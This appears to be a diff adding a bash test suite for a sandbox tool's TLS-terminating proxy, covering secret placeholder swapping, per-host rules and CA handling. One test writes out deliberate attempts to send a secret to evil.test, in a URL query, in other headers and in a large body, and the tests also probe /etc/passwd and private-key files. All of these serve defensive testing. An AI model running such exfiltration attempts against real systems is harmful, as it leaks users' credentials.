@@ -1,0 +1,304 @@
+#!/bin/bash
+# tls.sh - TLS termination: a sandbox's own CA, secrets swapped from
+# placeholders only where allowed, rules by method, path and size.
+#
+#   tests/tls.sh CORRAL [TEST...]
+#
+# The upstream is tls_upstream.py, an HTTPS server with a CA this script
+# makes (the policy's network.tls_upstream_ca tells corral to trust it),
+# which writes every byte it receives to a log: what left the sandbox is
+# read there.  As root it runs in a network namespace this script makes,
+# over a veth pair (198.18.79.0/30); otherwise on loopback.  Names reach it
+# through the policy's "hosts" map only.
+set -u
+CORRAL=$(readlink -f "$1")
+shift
+HERE=$(cd "$(dirname "$0")" && pwd)
+TEST_TMP=$(mktemp -d "${TMPDIR:-/tmp}/corral-tls.XXXXXX")
+chmod 755 "$TEST_TMP"
+. "$HERE/lib.sh"
+ME=$(id -u)
+NS=""
+PIDS=""
+SECRET="s3cret-$$-value"
+QSECRET="q-$$-secret"
+
+cleanup_all() {
+	for p in $PIDS; do kill "$p" 2>/dev/null || true; wait "$p" 2>/dev/null || true; done
+	if [ -n "$NS" ]; then
+		ip link del "vt$$a" 2>/dev/null || true
+		ip netns del "$NS" 2>/dev/null || true
+	fi
+	[ -n "${KEEP:-}" ] || rm -rf "$TEST_TMP"
+}
+trap cleanup_all EXIT
+
+# ---- the test's CA, its certificates, the upstreams -------------------------
+
+mkcerts() {
+	local d=$TEST_TMP
+	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 \
+		-subj /CN=corral-test-ca -keyout "$d/ca.key" -out "$d/ca.pem" 2>/dev/null &&
+	openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=api.test \
+		-keyout "$d/srv.key" -out "$d/srv.csr" 2>/dev/null &&
+	printf 'subjectAltName=DNS:api.test,DNS:other.test\n' > "$d/ext" &&
+	openssl x509 -req -in "$d/srv.csr" -CA "$d/ca.pem" -CAkey "$d/ca.key" \
+		-CAcreateserial -days 2 -extfile "$d/ext" -out "$d/srv.pem" 2>/dev/null &&
+	# bad.test: a certificate no trusted CA signed
+	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 \
+		-subj /CN=bad.test -addext subjectAltName=DNS:bad.test \
+		-keyout "$d/bad.key" -out "$d/bad.pem" 2>/dev/null &&
+	printf '%s\n' "$QSECRET" > "$d/qkey" &&
+	chmod 644 "$d"/*
+}
+
+# upstream VAR LOG CERT KEY: start one, its port in VAR
+upstream() {
+	local var=$1 pf=$TEST_TMP/$1.port i
+	${NS:+ip netns exec "$NS"} /usr/bin/python3 "$HERE/tls_upstream.py" "$pf" "$2" "$3" "$4" \
+		"$ADDR" >/dev/null 2>&1 &
+	PIDS="$PIDS $!"
+	for i in $(seq 1 100); do [ -s "$pf" ] && break; sleep 0.05; done
+	[ -s "$pf" ] || { echo "upstream did not start" >&2; exit 1; }
+	printf -v "$var" '%s' "$(cat "$pf")"
+}
+
+setup() {
+	mkcerts || { echo "openssl failed" >&2; exit 1; }
+	ADDR=127.0.0.1
+	if [ "$ME" = 0 ] && command -v ip >/dev/null; then
+		NS=corral-tls$$
+		ip netns add "$NS" &&
+		ip link add "vt$$a" type veth peer name "vt$$b" &&
+		ip link set "vt$$b" netns "$NS" &&
+		ip addr add 198.18.79.1/30 dev "vt$$a" &&
+		ip link set "vt$$a" up &&
+		ip -n "$NS" addr add 198.18.79.2/30 dev "vt$$b" &&
+		ip -n "$NS" link set "vt$$b" up &&
+		ip -n "$NS" link set lo up || { echo "netns setup failed" >&2; exit 1; }
+		ADDR=198.18.79.2
+	fi
+	GOODLOG=$TEST_TMP/good.log
+	BADLOG=$TEST_TMP/bad.log
+	upstream GOOD "$GOODLOG" "$TEST_TMP/srv.pem" "$TEST_TMP/srv.key"
+	upstream BAD "$BADLOG" "$TEST_TMP/bad.pem" "$TEST_TMP/bad.key"
+	HOSTS="{\"api.test\": \"$ADDR\", \"other.test\": \"$ADDR\", \"bad.test\": \"$ADDR\"}"
+}
+
+# policy EXTRA_ALLOW [TOP_LEVEL_EXTRA]: write $T/p.json
+policy() {
+	printf '{"network": {"mode": "proxy", "allow": ["api.test:%s", {"host": "other.test:%s", "tls": "terminate"}, {"host": "bad.test:%s", "tls": "terminate"}%s], "hosts": %s, "tls_upstream_ca": "%s"}%s}\n' \
+		"$GOOD" "$GOOD" "$BAD" "${1:-}" "$HOSTS" "$TEST_TMP/ca.pem" "${2:-}" > "$T/p.json"
+	chmod 644 "$T/p.json"
+}
+
+SECRETS='"secrets": [{"name": "API_KEY", "from_env": "CORRAL_TEST_SECRET", "hosts": ["api.test:GOOD"], "header": "Authorization"}, {"name": "Q_KEY", "from_file": "QFILE", "hosts": ["api.test:GOOD"], "query": "key"}]'
+secrets_policy() {
+	local s=${SECRETS//GOOD/$GOOD}
+	policy "${1:-}" ", ${s//QFILE/$TEST_TMP/qkey}"
+}
+
+# nrun ARGS...: corral run with events; out/err/rc/events in $T
+nrun() {
+	local rc=0
+	: > "$T/events"
+	: > "$GOODLOG"
+	: > "$BADLOG"
+	CORRAL_TEST_SECRET=$SECRET timeout 60 "$CORRAL" run --json --policy "$T/p.json" \
+		--events "$T/events" "$@" > "$T/out" 2> "$T/err" < /dev/null || rc=$?
+	echo "$rc" > "$T/rc"
+}
+stdout() { json stdout < "$T/out"; }
+denials() { grep -c '"type":"egress.denied"' "$T/events" || true; }
+count() { grep -o -- "$1" "$2" | wc -l; }
+
+# ---- tests ------------------------------------------------------------------
+
+t_clients_get_the_secret_swapped() {
+	secrets_policy
+	local basic node=true
+	basic=$(printf 'agent:%s' "$SECRET" | base64 -w0)
+	command -v node >/dev/null || node=false
+	nrun -- /bin/sh -c "
+curl -sS -m 10 -H \"Authorization: Bearer \$API_KEY\" https://api.test:$GOOD/curl; echo
+curl -sSv -m 10 -o /dev/null https://api.test:$GOOD/issuer 2>&1 | grep -i 'issuer:'
+/usr/bin/python3 -c '
+import base64, os, urllib.request
+auth = base64.b64encode((\"agent:\" + os.environ[\"API_KEY\"]).encode()).decode()
+r = urllib.request.Request(\"https://api.test:$GOOD/py?key=\" + os.environ[\"Q_KEY\"] + \"&x=1\",
+                           headers={\"Authorization\": \"Basic \" + auth})
+print(urllib.request.urlopen(r, timeout=10).read().decode())'
+if $node; then node -e '
+require(\"https\").get(\"https://api.test:$GOOD/node\", {headers: {authorization: \"Bearer \" + process.env.API_KEY}},
+  r => { let b = \"\"; r.on(\"data\", d => b += d); r.on(\"end\", () => console.log(b.trim())); })
+  .on(\"error\", e => console.log(\"node error\", e.message))'; fi
+git ls-remote https://api.test:$GOOD/repo.git 2>&1 | head -3
+"
+	expect_contains "curl" "$(stdout)" "hello from upstream /curl"
+	expect_contains "minted by the sandbox's CA" "$(stdout)" "corral sandbox CA"
+	expect_contains "python" "$(stdout)" "hello from upstream /py?key="
+	expect_contains "bearer swapped" "$(cat "$GOODLOG")" "Authorization: Bearer $SECRET"
+	expect_contains "basic swapped" "$(cat "$GOODLOG")" "Authorization: Basic $basic"
+	expect_contains "query swapped" "$(cat "$GOODLOG")" "GET /py?key=$QSECRET&x=1 "
+	if $node; then
+		expect_contains "node" "$(stdout)" "hello from upstream /node"
+		expect_eq "bearer twice (curl, node)" "$(count "Bearer $SECRET" "$GOODLOG")" 2
+	fi
+	# git reached it over verified TLS (the answer is no git repository)
+	expect_contains "git" "$(cat "$GOODLOG")" "GET /repo.git/info/refs?service=git-upload-pack"
+	expect_not_contains "no placeholder upstream" "$(cat "$GOODLOG")" "corral-ph-"
+	expect_eq "no denials" "$(denials)" 0
+	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
+}
+
+t_placeholder_elsewhere_is_refused_and_never_leaks() {
+	secrets_policy
+	nrun -- /bin/sh -c "
+h() { curl -sS -m 10 -o /dev/null -w '%{http_code}\n' \"\$@\"; }
+echo ph=\$API_KEY >&2
+h -H \"Authorization: Bearer \$API_KEY\" https://other.test:$GOOD/other-host
+curl -sS -m 10 -o /dev/null -w '%{http_connect}\n' -H \"Authorization: Bearer \$API_KEY\" https://evil.test/denied-host
+h \"https://api.test:$GOOD/in-url?leak=\$API_KEY\"
+h -H \"X-Other: \$API_KEY\" https://api.test:$GOOD/other-header
+h \"https://other.test:$GOOD/q?key=\$Q_KEY\"
+h -H \"Authorization: Bearer \$API_KEY\" http://api.test:$GOOD/plain
+/usr/bin/python3 -c '
+import os, urllib.request
+body = (\"x\" * 100000 + os.environ[\"API_KEY\"]).encode()
+try:
+    urllib.request.urlopen(urllib.request.Request(\"https://api.test:$GOOD/body\", data=body), timeout=10)
+    print(\"body went\")
+except Exception as e:
+    print(\"body refused\", getattr(e, \"code\", e))'
+"
+	expect_eq "other host, denied host, url, header, query, plain http: refused" \
+		"$(stdout | head -6 | tr '\n' ' ')" "403 403 403 403 403 403 "
+	expect_contains "body" "$(stdout)" "body refused"
+	expect_not_contains "the secret never left" "$(cat "$GOODLOG" "$BADLOG")" "$SECRET"
+	expect_not_contains "nor the query's" "$(cat "$GOODLOG")" "$QSECRET"
+	expect_not_contains "URL never left" "$(cat "$GOODLOG")" "in-url"
+	expect_not_contains "header never left" "$(cat "$GOODLOG")" "other-header"
+	local ph
+	ph=$(json stderr < "$T/out" | grep -o 'corral-ph-[0-9a-f]*')
+	[ -n "$ph" ] || fail "no placeholder inside"
+	expect_not_contains "body never left" "$(cat "$GOODLOG")" "$ph"
+	expect_eq "each an event" "$(denials)" 7
+	expect_eq "naming the secret" "$(grep '"type":"egress.denied"' "$T/events" | grep -c 'secret API_KEY\|secret Q_KEY')" 6
+	expect_contains "attributed" "$(grep 'secret API_KEY' "$T/events" | head -1)" '"pid":'
+	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
+}
+
+t_methods_paths_and_caps() {
+	policy ", {\"host\": \"api.test:$GOOD\", \"methods\": [\"GET\"], \"paths\": [\"/repos/acme/*\"]}, {\"host\": \"other.test:$GOOD\", \"methods\": [\"POST\"], \"max_body\": 100}" \
+		', "env": {"set": {"LONG": "'"$(printf 'a%.0s' $(seq 1 300))"'"}}'
+	sed -i 's/"tls_upstream_ca"/"max_url": 200, "tls_upstream_ca"/' "$T/p.json"
+	nrun -- /bin/sh -c "
+h() { curl -sS -m 10 -o /dev/null -w '%{http_code}\n' \"\$@\"; }
+h https://api.test:$GOOD/repos/acme/ok
+h -X POST https://api.test:$GOOD/repos/acme/post
+h https://api.test:$GOOD/etc/passwd
+h https://api.test:$GOOD/repos/acme/\$LONG
+h -d small https://other.test:$GOOD/small
+h -d \$LONG https://other.test:$GOOD/large
+h -H 'Transfer-Encoding: chunked' -d \$LONG https://other.test:$GOOD/chunked-large
+curl -sS -m 10 -D - -o /dev/null https://api.test:$GOOD/nope | grep -i x-corral-denied"
+	expect_eq "statuses" "$(stdout | head -7 | tr '\n' ' ')" "200 403 403 414 200 413 413 "
+	expect_contains "reason header" "$(stdout)" "X-Corral-Denied: GET /nope on api.test is outside the methods and paths"
+	expect_contains "allowed went" "$(cat "$GOODLOG")" "GET /repos/acme/ok"
+	expect_contains "small body went" "$(cat "$GOODLOG")" "POST /small"
+	expect_not_contains "refused ones did not" "$(cat "$GOODLOG")" "/etc/passwd"
+	expect_not_contains "large body did not" "$(cat "$GOODLOG")" "/large"
+	expect_not_contains "nor all of the chunked one" "$(cat "$GOODLOG")" "$(printf 'a%.0s' $(seq 1 300))"
+	expect_eq "denials" "$(denials)" 6
+	expect_contains "attributed, with the path" "$(grep '/etc/passwd' "$T/events")" '"pid":'
+	expect_contains "counted in the result" "$(json reason < "$T/out")" "6 denials"
+}
+
+t_bad_upstream_certificate_refused() {
+	policy
+	nrun -- curl -sS -m 10 -D - "https://bad.test:$BAD/x"
+	expect_contains "502" "$(stdout)" "502"
+	expect_contains "why" "$(stdout)" "did not verify"
+	expect_eq "an event" "$(denials)" 1
+	expect_not_contains "no request reached it" "$(cat "$BADLOG")" "GET /x"
+	# a client that does not trust the sandbox's CA: nothing leaves, it is said
+	nrun -- /usr/bin/python3 -c "
+import http.client, ssl
+c = http.client.HTTPSConnection('127.0.0.1', 3128, context=ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT), timeout=10)
+c.set_tunnel('other.test', $GOOD)
+try:
+    c.request('GET', '/distrust'); print('went')
+except ssl.SSLError as e:
+    print('refused', e.reason)"
+	expect_contains "client refused" "$(stdout)" "refused"
+	expect_contains "an event" "$(cat "$T/events")" '"type":"egress.tls_refused"'
+	expect_not_contains "nothing left" "$(cat "$GOODLOG")" "/distrust"
+}
+
+t_ca_inside_without_its_key() {
+	policy
+	nrun -- /bin/sh -c '
+openssl x509 -in /etc/corral/ca.pem -noout -subject -fingerprint -ext basicConstraints
+echo "env $SSL_CERT_FILE $REQUESTS_CA_BUNDLE $CURL_CA_BUNDLE $GIT_SSL_CAINFO $PIP_CERT $NODE_EXTRA_CA_CERTS"
+grep -c "BEGIN CERTIFICATE" /etc/ssl/certs/ca-certificates.crt /etc/corral/bundle.pem | tr "\n" " "; echo
+grep -rl "PRIVATE KEY" /etc /tmp /home /workspace 2>/dev/null | wc -l | sed "s/^/keys /"
+echo x > /etc/corral/ca.pem 2>/dev/null && echo writable'
+	expect_contains "a CA" "$(stdout)" "CA:TRUE"
+	expect_contains "ours" "$(stdout)" "corral sandbox CA"
+	expect_contains "env" "$(stdout)" "env /etc/corral/bundle.pem /etc/corral/bundle.pem /etc/corral/bundle.pem /etc/corral/bundle.pem /etc/corral/bundle.pem /etc/corral/ca.pem"
+	expect_contains "no key inside" "$(stdout)" "keys 0"
+	expect_not_contains "read-only" "$(stdout)" "writable"
+	local fp1 n1 n2
+	fp1=$(stdout | grep -i fingerprint)
+	n1=$(stdout | grep -o 'ca-certificates.crt:[0-9]*' | cut -d: -f2)
+	n2=$(stdout | grep -o 'bundle.pem:[0-9]*' | cut -d: -f2)
+	expect_eq "the system bundle is ours too" "$n1" "$n2"
+	[ "${n1:-0}" -gt 1 ] || fail "the bundle lost the system roots ($n1)"
+	nrun -- openssl x509 -in /etc/corral/ca.pem -noout -fingerprint
+	[ -n "$fp1" ] && [ "$(stdout)" != "$fp1" ] || fail "two sandboxes share a CA ($fp1)"
+}
+
+t_policy_errors() {
+	printf '{"network": {"mode": "proxy", "allow": [{"host": "a.test", "tls": "tunnel", "methods": ["GET"]}]}}' > "$T/p.json"
+	nrun -- true
+	expect_contains "tunnel with methods" "$(cat "$T/err" "$T/out")" "network.allow[0].tls"
+	printf '{"secrets": [{"name": "K", "from_env": "X", "hosts": ["a.test"]}]}' > "$T/p.json"
+	nrun -- true
+	expect_contains "no position" "$(cat "$T/err" "$T/out")" "where it may appear"
+	printf '{"network": {"mode": "proxy"}, "secrets": [{"name": "K", "from_env": "CORRAL_UNSET_VAR_X", "hosts": ["a.test"], "header": "X-K"}]}' > "$T/p.json"
+	nrun -- true
+	expect_contains "unset source" "$(cat "$T/err" "$T/out")" "CORRAL_UNSET_VAR_X is not set"
+}
+
+t_srt_settings_translated_key_by_key() {
+	mkdir -p "$T/proj/.git"
+	cat > "$T/srt.json" <<-EOF2
+	{"network": {"allowedDomains": ["api.test", "*"], "deniedDomains": ["evil.test"],
+	             "allowUnixSockets": ["/var/run/docker.sock"]},
+	 "filesystem": {"allowWrite": ["."], "denyWrite": [".git"], "denyRead": ["~/.ssh", "./x"]},
+	 "ignoreViolations": {}}
+	EOF2
+	chmod -R a+rX "$T"
+	(cd "$T/proj" && HOME=/nonexistent-home timeout 60 "$CORRAL" run --settings "$T/srt.json" -- /bin/sh -c \
+		'echo "proxy=$HTTPS_PROXY"; curl -sS -m 5 -o /dev/null -w "%{http_code}\n" http://evil.test/' \
+		> "$T/out" 2> "$T/err" < /dev/null) || true
+	local e
+	e=$(cat "$T/err")
+	expect_contains "allowed" "$e" 'network.allowedDomains[0]: "api.test" -> network.allow'
+	expect_contains "star refused" "$e" 'network.allowedDomains[1]: not mapped'
+	expect_contains "denied" "$e" 'network.deniedDomains[0]: "evil.test" -> network.deny'
+	expect_contains "sockets" "$e" 'network.allowUnixSockets: not mapped: corral passes no host Unix socket'
+	expect_contains "write" "$e" "filesystem.allowWrite[0]: \".\" -> filesystem.rw \"$T/proj\""
+	expect_contains "deny write" "$e" "filesystem.denyWrite[0]: \".git\" -> filesystem.ro \"$T/proj/.git\""
+	expect_contains "deny read outside" "$e" 'filesystem.denyRead[0]: "~/.ssh": already unreadable'
+	expect_contains "deny read inside a bind" "$e" 'filesystem.denyRead[1]: not mapped'
+	expect_contains "the rest" "$e" 'ignoreViolations: not mapped'
+	expect_contains "proxy mode" "$(cat "$T/out")" "proxy=http://127.0.0.1:3128"
+	expect_contains "denied host" "$(cat "$T/out")" "403"
+}
+
+setup
+run_tests "$@"
+echo "tls ($(id -un 2>/dev/null || id -u)): $PASS passed, $FAIL failed, $SKIP skipped"
+[ -n "$FAILED_NAMES" ] && echo "failed:$FAILED_NAMES"
+[ "$FAIL" -eq 0 ]
